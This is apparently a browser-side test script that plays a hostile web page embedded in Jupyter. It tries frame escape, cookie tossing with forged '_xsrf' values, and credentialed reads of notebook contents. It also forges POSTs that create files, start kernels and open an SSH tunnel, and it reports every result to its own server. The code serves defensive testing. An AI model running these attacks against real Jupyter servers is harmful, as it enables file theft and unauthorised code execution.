// What a hostile web application tries once a person has clicked in it. Each attempt is reported to
// its own server, `got` empty if it came to nothing; `TARGETS` are the addresses of the Jupyter that
// shows it, each with a slash at its end.

const home = new URL('.', document.currentScript.src);
const PATIENCE = 2000;

function after(ms) {
  return new Promise(resolve => setTimeout(resolve, ms));
}

async function attempt(name, act) {
  let got = '';
  let why = '';
  try {
    got = (await Promise.race([act(), after(2 * PATIENCE)])) ?? '';
  } catch (error) {
    why = String(error);
  }
  const query = new URLSearchParams({ name, got: String(got).slice(0, 500), why });
  await fetch(new URL(`report?${query}`, home), { mode: 'no-cors' });
}

// Needs the click's activation, so it comes first, and at once.
function leave() {
  const away = TARGETS[0] + 'api';
  const ways = [
    () => (top.location = away),
    () => top.location.replace(away),
    () => (parent.location.href = away),
    () => window.open(away, '_top'),
    () => window.open(away, '_parent'),
    () => {
      const link = document.getElementById('top-link');
      link.href = away;
      link.click();
    },
    () => {
      const form = document.getElementById('top-form');
      form.action = away;
      form.submit();
    }
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // refused, as it should be
    }
  }
}

async function read(url) {
  const response = await fetch(url, { credentials: 'include' });
  const text = await response.text();
  return response.ok ? text : '';
}

async function post(url, body, method = 'POST') {
  const headers = { 'Content-Type': 'text/plain' };
  await fetch(url, { method, body, headers, mode: 'no-cors', credentials: 'include' });
}

async function submit(url, fields) {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.name = `submit-${Math.random()}`;
  const form = document.body.appendChild(document.createElement('form'));
  Object.assign(form, { action: url, method: 'POST', target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const input = form.appendChild(document.createElement('input'));
    Object.assign(input, { name, value });
  }
  form.submit();
  await after(PATIENCE / 4);
}

function connect(url) {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    socket.onopen = () => {
      socket.close();
      resolve('connected');
    };
    socket.onerror = () => reject(new Error('refused'));
  });
}

async function frame(url) {
  const element = document.body.appendChild(document.createElement('iframe'));
  const loaded = new Promise(resolve => (element.onload = resolve));
  element.src = url;
  await Promise.race([loaded, after(PATIENCE)]);
  return element.contentDocument?.location.href.replace('about:blank', '');
}

async function openWindow(url) {
  const opened = window.open(url);
  if (!opened) {
    return '';
  }
  await after(PATIENCE / 2);
  try {
    return opened.document.location.href.replace('about:blank', '');
  } finally {
    opened.close();
  }
}

async function workers(url) {
  const script = new URL('worker.js', home).href;
  const scope = new URL('/', url).href;
  const registration = await navigator.serviceWorker.register(script, { scope });
  return TARGETS.some(target => registration.scope.startsWith(new URL(target).origin))
    ? registration.scope
    : '';
}

// Its own it may keep, those that it tossed included.
function strangeCookies() {
  const cookies = document.cookie.split('; ');
  return cookies.filter(cookie => !cookie.endsWith('=evil')).join('; ');
}

// All domains that it or Jupyter lies in.
function domains() {
  const hosts = [...TARGETS.map(url => new URL(url).hostname), location.hostname, 'localhost'];
  return hosts.flatMap(host => host.split('.').map((_, i, labels) => labels.slice(i).join('.')));
}

function toss() {
  const names = ['_xsrf', ...TARGETS.map(url => 'username-' + new URL(url).host.replace(/\W/g, '-'))];
  for (const name of names) {
    for (const domain of ['', ...domains().flatMap(one => [`; Domain=${one}`, `; Domain=.${one}`])]) {
      document.cookie = `${name}=evil; Path=/${domain}`;
      document.cookie = `${name}=evil; Path=/; SameSite=None; Secure${domain}`;
    }
  }
}

async function attack() {
  if (top !== window) {
    leave();
  }
  const tunnel = JSON.stringify({ command: 'ssh -L 0:localhost:22 evil@localhost' });
  await attempt('opener', () => window.opener && window.opener.location.href);
  await attempt('opens a window', () => openWindow(TARGETS[0] + 'lab'));
  await attempt('reads the cookies', strangeCookies);
  await attempt('reads the referrer', () => {
    const { href, origin } = new URL(document.referrer);
    return href.replace(`${origin}/`, '');
  });
  await attempt('reads the page around it', () => (top === window ? '' : top.document.title));
  await attempt('tosses cookies', toss);
  for (const url of TARGETS) {
    await attempt(`service worker for ${url}`, () => workers(url));
    await attempt(`reads contents of ${url}`, () => read(url + 'api/contents'));
    await attempt(`reads the page of ${url}`, () => read(url + 'lab'));
    await attempt(`reads tunnels of ${url}`, () => read(url + 'remote-tunnel/api/tunnels'));
    await attempt(`asks for a ticket of ${url}`, () => read(url + 'remote-tunnel/open/any'));
    await attempt(`listens to ${url}`, () => connect(url + 'api/events/subscribe'));
    await attempt(`frames ${url}`, () => frame(url + 'lab'));
    await attempt(`makes a file in ${url}`, async () => {
      await post(url + 'api/contents', '{"type": "file"}');
      await submit(url + 'api/contents', { type: 'file', _xsrf: 'evil' });
    });
    await attempt(`starts a kernel in ${url}`, async () => {
      await post(url + 'api/kernels', '{"name": "python3"}');
      await submit(url + 'api/kernels?_xsrf=evil', { _xsrf: 'evil' });
    });
    await attempt(`opens a tunnel in ${url}`, async () => {
      await post(url + 'remote-tunnel/api/tunnels', tunnel);
      await submit(url + 'remote-tunnel/api/tunnels', { [tunnel]: '', _xsrf: 'evil' });
    });
    await attempt(`closes a tunnel in ${url}`, async () => {
      await post(`${url}remote-tunnel/api/tunnels/${VICTIM}`, null, 'DELETE');
    });
    await attempt(`logs out of ${url}`, async () => {
      await post(url + 'logout', '');
      await fetch(url + 'logout', { mode: 'no-cors', credentials: 'include' });
    });
  }
  document.getElementById('progress').textContent = 'done';
}

const button = document.getElementById('attack');
button.onclick = attack;
button.disabled = false;
